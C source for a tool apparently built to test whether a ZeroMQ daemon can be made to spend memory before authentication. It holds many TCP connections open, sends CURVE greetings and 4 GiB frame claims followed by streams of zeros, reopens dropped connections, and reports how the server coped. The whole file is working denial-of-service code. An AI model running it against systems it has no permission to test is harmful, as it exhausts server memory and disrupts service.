/*  preauth: a stranger with no key at all, costing a daemon memory before
    authentication (issue 9, item 1). Plain TCP, no ZeroMQ library.

    preauth HOST PORT CONNECTIONS SECONDS [claim|idle]

    Keeps CONNECTIONS TCP connections open at once to HOST:PORT for
    SECONDS (or until SIGTERM). On each it sends a ZMTP 3.0 greeting asking for CURVE, then
    (claim, the default) a command frame whose 8-byte length says 4 GiB,
    then zeros as fast as the server takes them; (idle) nothing after the
    greeting, holding the connection until the server drops it. A
    connection the server closes is opened again at once, so the pressure
    stays at CONNECTIONS for the whole time.

    Prints one line: connections opened, closed by the server (and how
    long the longest lived after its claim, in ms), bytes of zeros the
    server accepted in all and at most on one connection, open at the end.
    Exit 0, 2 on usage errors.
*/

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNECTIONS 4096

typedef struct {
    int fd;
    bool connected;
    size_t head;            //  bytes of greeting + claim written
    uint64_t zeros;         //  zeros written after the claim
    double claimed_at;      //  when the claim was complete
} s_conn_t;

static double
s_now (void)
{
    struct timespec ts;
    clock_gettime (CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}

static uint8_t s_head [64 + 9];
static volatile sig_atomic_t s_stop;

static void
s_on_term (int sig)
{
    (void) sig;
    s_stop = 1;
}
static size_t s_head_size;

static int
s_open (const struct sockaddr_in *addr)
{
    int fd = socket (AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    if (connect (fd, (const struct sockaddr *) addr, sizeof *addr) < 0
    &&  errno != EINPROGRESS) {
        close (fd);
        return -1;
    }
    return fd;
}

int
main (int argc, char **argv)
{
    if (argc < 5) {
        fprintf (stderr, "usage: preauth HOST PORT CONNECTIONS SECONDS [claim|idle]\n");
        return 2;
    }
    struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons ((uint16_t) atoi (argv [2])) };
    int n = atoi (argv [3]);
    double seconds = atof (argv [4]);
    bool claim = argc < 6 || strcmp (argv [5], "idle") != 0;
    if (inet_pton (AF_INET, argv [1], &addr.sin_addr) != 1 || n < 1 || n > MAX_CONNECTIONS
    ||  seconds <= 0) {
        fprintf (stderr, "preauth: bad HOST, CONNECTIONS (1..%d) or SECONDS\n", MAX_CONNECTIONS);
        return 2;
    }
    signal (SIGPIPE, SIG_IGN);
    signal (SIGTERM, s_on_term);
    //  ZMTP 3.0 greeting: signature, version 3.0, mechanism CURVE, as-server 0, filler
    memset (s_head, 0, sizeof s_head);
    s_head [0] = 0xff;
    s_head [9] = 0x7f;
    s_head [10] = 3;
    s_head [11] = 0;
    memcpy (s_head + 12, "CURVE", 5);
    s_head_size = 64;
    if (claim) {
        //  A long command frame (flags 0x06) of 2^32 bytes
        uint8_t *frame = s_head + 64;
        frame [0] = 0x06;
        uint64_t size = 1ULL << 32;
        for (int b = 0; b < 8; b++)
            frame [1 + b] = (uint8_t) (size >> (56 - 8 * b));
        s_head_size += 9;
    }
    static uint8_t zeros [65536];
    static uint8_t sink [65536];
    s_conn_t *conns = calloc ((size_t) n, sizeof (s_conn_t));
    struct pollfd *fds = calloc ((size_t) n, sizeof (struct pollfd));
    uint64_t opened = 0, closed = 0, failed = 0, total_zeros = 0, max_zeros = 0;
    double longest = 0;
    for (int i = 0; i < n; i++) {
        conns [i].fd = s_open (&addr);
        if (conns [i].fd >= 0)
            opened++;
        else
            failed++;
    }
    double until = s_now () + seconds;
    while (s_now () < until && !s_stop) {
        for (int i = 0; i < n; i++) {
            s_conn_t *c = &conns [i];
            if (c->fd < 0) {
                //  Closed by the server (or could not open): again
                c->fd = s_open (&addr);
                c->connected = false;
                c->head = 0;
                c->zeros = 0;
                if (c->fd >= 0)
                    opened++;
                else
                    failed++;
            }
            fds [i].fd = c->fd;
            fds [i].events = POLLIN;
            if (!c->connected || c->head < s_head_size || claim)
                fds [i].events |= POLLOUT;
            fds [i].revents = 0;
        }
        if (poll (fds, (nfds_t) n, 20) < 0 && errno != EINTR)
            break;
        double now = s_now ();
        for (int i = 0; i < n; i++) {
            s_conn_t *c = &conns [i];
            if (c->fd < 0 || !fds [i].revents)
                continue;
            bool gone = false;
            if (fds [i].revents & POLLIN) {
                ssize_t got = read (c->fd, sink, sizeof sink);
                if (got == 0 || (got < 0 && errno != EAGAIN && errno != EINTR))
                    gone = true;
            }
            if (!gone && (fds [i].revents & (POLLERR | POLLHUP)))
                gone = true;
            if (!gone && (fds [i].revents & POLLOUT)) {
                c->connected = true;
                ssize_t wrote;
                if (c->head < s_head_size)
                    wrote = write (c->fd, s_head + c->head, s_head_size - c->head);
                else
                    wrote = write (c->fd, zeros, sizeof zeros);
                if (wrote < 0 && errno != EAGAIN && errno != EINTR)
                    gone = true;
                else
                if (wrote > 0) {
                    if (c->head < s_head_size) {
                        c->head += (size_t) wrote;
                        if (c->head == s_head_size)
                            c->claimed_at = now;
                    }
                    else {
                        c->zeros += (uint64_t) wrote;
                        total_zeros += (uint64_t) wrote;
                        if (c->zeros > max_zeros)
                            max_zeros = c->zeros;
                    }
                }
            }
            if (gone) {
                if (c->connected) {
                    closed++;
                    if (c->head == s_head_size && now - c->claimed_at > longest)
                        longest = now - c->claimed_at;
                }
                close (c->fd);
                c->fd = -1;
            }
        }
    }
    int open_now = 0;
    for (int i = 0; i < n; i++)
        if (conns [i].fd >= 0) {
            open_now++;
            close (conns [i].fd);
        }
    printf ("preauth: %s:%s %s: %llu connections opened (%llu failed to open), %llu closed "
            "by the server (the longest lived %.0f ms after its %s), zeros accepted %llu "
            "bytes in all, at most %llu on one connection; %d open at the end\n",
            argv [1], argv [2], claim? "claim 4 GiB": "idle", (unsigned long long) opened,
            (unsigned long long) failed, (unsigned long long) closed, longest * 1000,
            claim? "claim": "greeting", (unsigned long long) total_zeros,
            (unsigned long long) max_zeros, open_now);
    free (conns);
    free (fds);
    return 0;
}
